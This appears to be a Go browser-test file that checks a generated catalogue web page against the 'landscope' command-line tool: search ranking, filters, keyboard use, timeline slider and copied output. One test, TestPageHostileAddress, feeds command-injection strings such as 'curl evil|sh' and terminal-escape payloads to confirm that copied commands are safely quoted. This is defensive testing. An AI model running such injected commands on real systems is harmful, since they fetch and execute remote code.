package cmd_test

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// TestPageSearch: the page ranks 200 queries as the command does.
func TestPageSearch(t *testing.T) {
	t.Parallel()
	b := open(t, pageFile(t), 1200, 900)
	var queries []string
	names := strings.Fields(strings.ToLower(runIn(nil, nil, "list", "-o", "name").stdout))
	for i := 0; len(queries) < 150; i += 5 {
		name := names[i]
		switch i % 3 {
		case 0: // as it is
		case 1: // begun
			name = name[:len(name)/2+1]
		case 2: // misspelled
			name = name[:len(name)/3] + name[len(name)/3+1:]
		}
		queries = append(queries, name)
	}
	tags := strings.Fields(runIn(nil, nil, "list", "--jq", ".[].summary.tags[]?").stdout)
	slices.Sort(tags)
	tags = slices.Compact(tags)
	for i := 0; len(queries) < 185; i += len(tags) / 36 {
		queries = append(queries, strings.ReplaceAll(tags[i], "-", " "))
	}
	queries = append(queries, "service mesh", "kubernetes", "メッシュ", "サービス メッシュ", "c++", "k8s", "a", "open policy agent", "borg", "heptio ark", "運用", "zzzz", "argo cd", "the update framework (tuf)", "container runtime 2")
	if len(queries) != 200 {
		t.Fatalf("%d queries", len(queries))
	}
	for _, q := range queries {
		r := runIn(nil, nil, "search", "--kind", "hosted,other", "--limit", "0", "-o", "json", "--jq", ".[].name", "--", q)
		expected := strings.TrimSpace(r.stdout)
		got := eval[[]string](b, fmt.Sprintf("search(all, %q, i => data.items[i].maturity || '').map(i => data.items[i].name)", q))
		if strings.Join(got, "\n") != expected {
			t.Errorf("%q: the page finds %q, the command %q", q, got, strings.Split(expected, "\n"))
		}
	}
}

// TestPageNotes: the page says what the search made of a query, as the command does.
func TestPageNotes(t *testing.T) {
	t.Parallel()
	b := open(t, pageFile(t, "--kind", "all"), 1200, 900)
	for q, want := range map[string]string{
		"istio":                    "",
		"zzzzqq":                   "",
		"mesh quantum":             "no item matches all words; showing items that match some",
		"graduated service mesh":   `searching for "service mesh" at level graduated`,
		"sandbox":                  "showing all items at level sandbox",
		"alternatives to istio":    "showing alternatives to Istio, then other items of its subcategory",
		"incubating opentelemetry": "no incubating item matches; showing items at any level",
	} {
		got := eval[[]string](b, fmt.Sprintf("(() => { state.q = %q; const s = select(); state.q = ''; return s.notes; })()", q))
		if strings.Join(got, "; ") != want {
			t.Errorf("%q: %q, want %q", q, got, want)
		}
		notes := 0
		for line := range strings.Lines(runIn(nil, nil, "search", "--limit", "1", "--kind", "all", "--", q).stderr) {
			if strings.Contains(line, "showing") || strings.Contains(line, "the others match some") || strings.Contains(line, "searching") {
				notes++
			}
		}
		if notes != len(got) {
			t.Errorf("%q: the page has %d notes, the command %d", q, len(got), notes)
		}
	}
}

// TestPageFilters: every value of every filter lets pass what it does at a
// prompt, the counts beside them are right, and a day shows what --as-of does.
func TestPageFilters(t *testing.T) {
	t.Parallel()
	b := open(t, pageFile(t, "--kind", "all"), 1200, 900)
	values := eval[map[string][]string](b, "Object.fromEntries(data.filters.map(f => [f.name, (f.values || []).map(v => v.name)]))")
	for name, more := range map[string][]string{"name": {"kube*", "?pen*"}, "text": {"service mesh"}, "related-to": {"Istio"}, "accepted-at": {"2020", "2020-05..2021-02", "2024..", "..2018"},
		"graduated-at": {"2018-03-06"}, "incubating-at": {"2022..2023"}, "archived-at": {"..2030"}} {
		values[name] = append(values[name], more...)
	}
	n := 0
	for _, name := range slices.Sorted(maps.Keys(values)) {
		for i, value := range values[name] {
			if name == "tag" && i%7 > 0 {
				continue
			}
			args := []string{"list", "--" + name, value, "-o", "name"}
			if name != "kind" {
				args = append(args, "--kind", "all")
			}
			expected := len(strings.Fields(runIn(nil, nil, args...).stdout))
			shown := eval[[]int](b, fmt.Sprintf(`(() => { state.group = "all"; state.filters = {}; const c = select().counts; state.filters = {%q: [%q]}; const n = select().found.length;
				state.filters = {}; return [n, c.get(data.filters.find(f => f.name === %[1]q)).get(%[2]q) ?? n]; })()`, name, value))
			if shown[0] != expected || shown[1] != expected {
				t.Errorf("%s %s: the page has %d and says %d, the command has %d", name, value, shown[0], shown[1], expected)
			}
			n++
		}
	}
	if n < 150 {
		t.Errorf("only %d values", n)
	}
	for _, day := range []string{"2016-03-10", "2018-02-20", "2020-01-01", "2023-07-12", "2026-08-06"} {
		expected := strings.Fields(runIn(nil, nil, "list", "--as-of", day, "--kind", "all", "--jq", `.[] | .id + "=" + (.maturity // "")`).stdout)
		got := eval[[]string](b, fmt.Sprintf(`(() => { state.group = "all"; state.day = %q; const s = select(); state.day = ""; return s.found.map(i => data.items[i].id + "=" + s.level[i]); })()`, day))
		slices.Sort(expected)
		slices.Sort(got)
		if !slices.Equal(got, expected) {
			t.Errorf("on %s the page has %d items, the command %d", day, len(got), len(expected))
		}
	}
}

// TestPageKeyboard goes through the page without a pointer.
func TestPageKeyboard(t *testing.T) {
	t.Parallel()
	b := open(t, pageFile(t), 1200, 900)
	b.key("\t")
	want(b, "document.activeElement.className", "skip")
	b.key("k", chromedp.KeyModifiers(chromedp.ModifierCtrl))
	b.key("linkerd")
	b.await("!$('best').hidden && state.q === 'linkerd'")
	want(b, "document.querySelector('#best a').textContent", "Linkerd")
	want(b, "new URLSearchParams(location.hash.slice(1)).get('q')", "linkerd")
	b.key(kb.Escape)
	want(b, "$('q').value + location.hash", "")
	// The map is one stop of the Tab key; arrows lead on.
	eval[bool](b, "shownTiles().find(t => t.link.tabIndex === 0).link.focus(), true")
	b.key(kb.Home)
	first := eval[string](b, "document.activeElement.querySelector('.nm').textContent")
	b.key(kb.ArrowRight)
	b.key(kb.ArrowDown)
	want(b, "document.activeElement.classList.contains('t')", true)
	want(b, "document.querySelectorAll('#map a.t[tabindex=\"0\"]').length", 1)
	b.key(kb.Home)
	want(b, "document.activeElement.querySelector('.nm').textContent", first)
	b.await("$('card').matches(':popover-open')") // the card shows on focus, too
	b.key(kb.Enter)
	b.await("$('item').open")
	want(b, "$('item').querySelector('h2').textContent", first)
	want(b, "$('item').contains(document.activeElement)", true)
	b.key(kb.Escape)
	b.await("!$('item').open && !state.item && document.activeElement.matches('a.t')")
	want(b, "document.activeElement.querySelector('.nm').textContent", first)
	eval[bool](b, "document.querySelector('[data-view=list]').focus(), true")
	b.key(kb.Enter)
	b.await("document.querySelector('#list table')")
	want(b, "document.querySelectorAll('#list tbody tr').length", 100)
	eval[bool](b, "document.querySelector('#list th button').focus(), true")
	b.key(kb.Enter)
	want(b, "document.activeElement.closest('th').getAttribute('aria-sort')", "ascending")
	ordered := strings.Split(runIn(nil, nil, "list", "--sort", "name", "--columns", "name", "-o", "csv", "--no-headers", "--raw").stdout, "\n")[:50]
	want(b, "change({group: 'all'}), Array.from(document.querySelectorAll('#list tbody th a'), a => a.lastChild.textContent).slice(0, 50).join('\\n')", strings.Join(ordered, "\n"))
	// The filters open, take the focus, and give it back.
	eval[bool](b, "$('more').focus(), true")
	b.key(kb.Enter)
	want(b, "$('panel').open && $('panel').contains(document.activeElement)", true)
	want(b, "$('more').getAttribute('aria-expanded')", "true")
	eval[bool](b, "$('panel-close').focus(), true")
	b.key(kb.Enter)
	want(b, "$('panel').open + document.activeElement.id", "falsemore")
}

// TestPageSlider plays the landscape.
func TestPageSlider(t *testing.T) {
	t.Parallel()
	b := open(t, pageFile(t, "--maturity", "hosted")+"#group=all", 1200, 900)
	b.do(chromedp.Click(chromedp.CSS("#play")))
	b.await("state.day > '2017'")
	n := eval[int](b, "current.length")
	b.await("state.day > '2018'")
	b.do(chromedp.Click(chromedp.CSS("#play")))
	if later := eval[int](b, "current.length"); n == 0 || later <= n {
		t.Errorf("%d items, then %d", n, later)
	}
	day := eval[string](b, "state.day")
	want(b, "new Promise(done => setTimeout(() => done(state.day), 400))", day)
	want(b, "new URLSearchParams(location.hash.slice(1)).get('as-of')", day)
	eval[bool](b, "$('when').focus(), true")
	b.key(kb.End)
	want(b, "state.day + current.length", "255")
	want(b, "document.querySelector('#play').title.slice(0, 4)", "Play")
	want(b, "change({day: '2018-02-20'}), play(), state.day", "2018-02-01") // between two stops
	b.await("state.day > '2018-03'")
	eval[bool](b, "$('clear').click(), true")
	want(b, "state.day + playing", "0")
	b.look("", "prefers-reduced-motion:reduce")
	want(b, "getComputedStyle(document.querySelector('.t')).transitionDuration", "0s")
}

// TestPageCopies: what is copied is what the command writes.
func TestPageCopies(t *testing.T) {
	t.Parallel()
	b := open(t, pageFile(t, "--kind", "all")+"#group=all", 1200, 900)
	for _, format := range []string{"csv", "json", "markdown"} {
		expected := runIn(nil, nil, "list", "--kind", "all", "-o", format).stdout
		if got := eval[string](b, "copies."+format+"(current)"); got != expected {
			x, y := strings.Split(got, "\n"), strings.Split(expected, "\n")
			for i := range min(len(x), len(y)) {
				if x[i] != y[i] {
					t.Errorf("%s, line %d:\n%s\nwant\n%s", format, i+1, x[i], y[i])
					break
				}
			}
			t.Errorf("%s: %d lines, want %d", format, len(x), len(y))
		}
	}
	eval[bool](b, `change({filters: {category: ["App Definition and Development"], maturity: ["graduated"]}, day: "2024-01-01"}), true`)
	want(b, "copies.command()", "landscope list --category 'App Definition and Development' --maturity graduated --as-of 2024-01-01\n")
	eval[bool](b, `navigator.clipboard.writeText = async text => { window.taken = text; }, document.querySelector("[data-copy=csv]").click(), true`)
	b.await("window.taken && $('told').textContent")
	want(b, "taken.startsWith('name,maturity,') && $('told').textContent.startsWith('Copied: CSV')", true)
}

// TestPageHostileAddress: what an address chooses, which anyone may have written,
// neither puts a command on a prompt nor takes long.
func TestPageHostileAddress(t *testing.T) {
	t.Parallel()
	file := pageFile(t)
	b := open(t, file+"#group=all&sort=name%3Bcurl%20evil%7Csh%20%23", 1200, 900)
	want(b, "copies.command()", "landscope list\n")
	eval[bool](b, `state.sort = "name;curl evil|sh #", true`) // and if it got there all the same
	want(b, "copies.command()", "landscope list --sort='name;curl evil|sh #'\n")
	eval[bool](b, `state.sort = "", state.filters = {name: ["\x1b[201~\nid\u202e'\u009b; id #"]}, true`)
	want(b, "copies.command()", `landscope list --name '[201~id'\''; id #'`+"\n")
	b = open(t, file+"#group=all&sort=-accepted_at", 1200, 900)
	want(b, "copies.command()", "landscope list --sort=-accepted_at\n")
	eval[bool](b, `data.items[0] = {...data.items[0], name: "\u001b[31m＝\u202e\u{e0041}\u007f", homepage_url: "https://x.org/\u202e"}, true`)
	for format, expected := range map[string]string{"csv": `␛[31m＝\u202e\U000e0041␡`, "json": `"\u001b[31m＝\u202e\udb40\udc41\u007f"`, "markdown": `| ␛\[31m＝\\u202e\\U000e0041␡ |`} {
		if got := eval[string](b, "copies."+format+"([0])"); !strings.Contains(got, expected) {
			t.Errorf("%s: no %s in %s", format, expected, got)
		}
	}
	// A pattern that backtracks would never end.
	b = open(t, file+"#name=*%3F*%3F*%3F*%3F*%3F*%3F*%3F*%3F*%3F*%3F*%3F*%3F%40", 1200, 900)
	want(b, "current.length", 0.0)
}
